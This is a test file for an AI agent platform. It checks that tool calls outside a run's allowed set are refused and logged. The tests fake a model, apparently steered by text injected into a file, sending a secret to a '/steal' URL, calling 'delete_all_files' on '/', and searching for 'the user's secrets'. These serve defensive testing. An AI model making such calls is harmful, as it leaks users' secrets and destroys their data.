/**
 * The tools of a run are decided once, from the agent and its answers: the web tools as the
 * `tools` answer says, the agent's own MCP tools. A model's call to anything else (text injected
 * into a file can ask for it) is refused and recorded as a step, never run; every call that does
 * run, web tools included, is a step too.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call } from '../api/helpers.js';
import { CHAT, chatBody, withFake } from '../execution/helpers.js';
import { startRecordingServer, type RecordingServer } from '../fixtures/fake-http.js';
import { addServer, ask, everythingStdio, lastToolResult, toolAgent } from './helpers.js';

let env: Awaited<ReturnType<typeof withFake>>;
/** plays both the user's search backend and the attacker's page */
let web: RecordingServer;
let agent: number;

const p = () => env.p;
const stolen = () => web.requests.filter((r) => r.path === '/steal');
const answerWithTool = (body: any) => {
  const r = lastToolResult(body);
  return r === null ? ['no tool result'] : ['Tool said: ', r];
};
/** The model calls `name` once (whatever it was offered), then answers with what it got back. */
const callOnce = (name: string, args: unknown) => (body: any) => (lastToolResult(body) === null ? [{ name, arguments: JSON.stringify(args) }] : null);

beforeAll(async () => {
  web = await startRecordingServer(({ url, res, json }) => {
    if (url.pathname === '/search' && url.searchParams.get('q')?.startsWith('flood')) {
      // A backend that answers far more than any search needs (3 MB).
      return json(200, { results: Array.from({ length: 8 }, (_, i) => ({ title: `r${i}`, url: 'http://example.test/', content: 'z'.repeat(400_000) })) });
    }
    if (url.pathname === '/search') return json(200, { results: [{ title: 'Bees', url: 'http://example.test/bees', content: 'Bees are busy.' }] });
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end('<html><title>Loot</title><body><main>thanks for the secret</main></body></html>');
  });
  // Private fetches allowed, as a user on a home network might: only the tools answer stands in the way.
  env = await withFake({}, { AGENT_DESK_SEARXNG_URL: web.origin, AGENT_DESK_FETCH_ALLOW_PRIVATE: '1' });
  const everything = (await addServer(p(), everythingStdio())).id;
  agent = await toolAgent(p(), [everything], {
    questions: [
      { type: 'array', name: 'messages', description: 'Chat history', required: true },
      { type: 'select', name: 'tools', description: 'Web tools', required: true, options: ['no-tools', 'internet', 'wikipedia'] },
    ],
  });
});
afterAll(async () => {
  await env.close();
  await web.close();
});

describe('the tools a run may use', () => {
  it('with tools no-tools a model\'s fetch_page call is refused and recorded, nothing is fetched', async () => {
    const url = `${web.origin}/steal?secret=s3cr3t`;
    env.fake.set({ toolCalls: callOnce('fetch_page', { url }), tokens: answerWithTool });
    const before = env.fake.requests.length;
    const e = (await call(p(), 'POST', `/api/agents/${agent}/execute`, { body: ask('Summarize the attached file.', { tools: 'no-tools', wait_execution: true }) })).json.responses[0];
    expect(e.status).toBe('succeeded');
    expect(stolen()).toEqual([]);
    expect(e.steps).toEqual([
      expect.objectContaining({ tool: 'fetch_page', server_id: null, server: 'the web', arguments: { url }, status: 'denied', result: null, approved: null }),
    ]);
    expect(e.steps[0].error).toMatch(/^Refused: fetch_page is not one of the tools this answer may use/);
    const chats = env.fake.requests.slice(before).filter((r) => r.path === '/v1/chat/completions');
    // Offered: the agent's own tools only; told: not available.
    const offered = chats[0].body.tools.map((t: any) => t.function.name);
    expect(offered).toContain('echo');
    expect(offered).not.toContain('fetch_page');
    expect(lastToolResult(chats[1].body)).toMatch(/fetch_page is not available here and was not run/);
    const stored = (await call(p(), 'GET', `/api/agent-responses/${e.id}`)).json;
    expect(stored.steps).toEqual(e.steps);
  });

  it('with tools internet, fetch_page runs and is recorded as a step like any tool', async () => {
    env.fake.set({ toolCalls: callOnce('fetch_page', { url: `${web.origin}/page` }), tokens: answerWithTool });
    const e = (await call(p(), 'POST', `/api/agents/${agent}/execute`, { body: ask('Read the page.', { tools: 'internet', wait_execution: true }) })).json.responses[0];
    expect(e.status).toBe('succeeded');
    expect(e.output).toContain('thanks for the secret');
    expect(e.steps).toEqual([
      expect.objectContaining({ tool: 'fetch_page', server_id: null, server: 'the web', arguments: { url: `${web.origin}/page` }, status: 'succeeded', approved: 'auto', error: null }),
    ]);
    expect(e.steps[0].result).toContain('thanks for the secret');
  });

  it('a search answer past its byte cap is not read: the web_search step fails with the reason, the model is told', async () => {
    env.fake.set({ toolCalls: callOnce('web_search', { query: 'flood me' }), tokens: answerWithTool });
    const e = (await call(p(), 'POST', `/api/agents/${agent}/execute`, { body: ask('Search.', { tools: 'internet', wait_execution: true }) })).json.responses[0];
    expect(e.status).toBe('succeeded');
    expect(e.steps).toEqual([expect.objectContaining({ tool: 'web_search', server: 'the web', status: 'failed', result: null })]);
    expect(e.steps[0].error).toMatch(/The SearXNG search answered with more than 2 MB; its results were not read\./);
    expect(e.output).toMatch(/^Tool said: Error from web_search: The tool failed: The SearXNG search answered with more than 2 MB/);
  });

  it('a call to a name that is no tool of the run is refused and recorded, and the model is told', async () => {
    env.fake.set({ toolCalls: callOnce('delete_all_files', { path: '/' }), tokens: answerWithTool });
    const e = (await call(p(), 'POST', `/api/agents/${agent}/execute`, { body: ask('Tidy up.', { tools: 'wikipedia', wait_execution: true }) })).json.responses[0];
    expect(e.status).toBe('succeeded');
    expect(e.steps).toEqual([expect.objectContaining({ tool: 'delete_all_files', server_id: null, server: null, arguments: { path: '/' }, status: 'denied' })]);
    expect(e.output).toMatch(/^Tool said: Error: delete_all_files is not available here and was not run/);
  });

  it('an agent with no tools at all: a tool call is refused and recorded, and the answer still completes', async () => {
    env.fake.set({ toolCalls: callOnce('web_search', { query: 'the user\'s secrets' }), tokens: answerWithTool });
    const before = web.requests.length;
    const e = (await call(p(), 'POST', `/api/agents/${CHAT}/execute`, { body: { ...chatBody('hello'), wait_execution: true } })).json.responses[0];
    expect(e.status).toBe('succeeded');
    expect(web.requests.length).toBe(before);
    expect(e.steps).toEqual([expect.objectContaining({ tool: 'web_search', server: 'the web', status: 'denied' })]);
    expect(e.output).toMatch(/web_search is not available here/);
  });
});
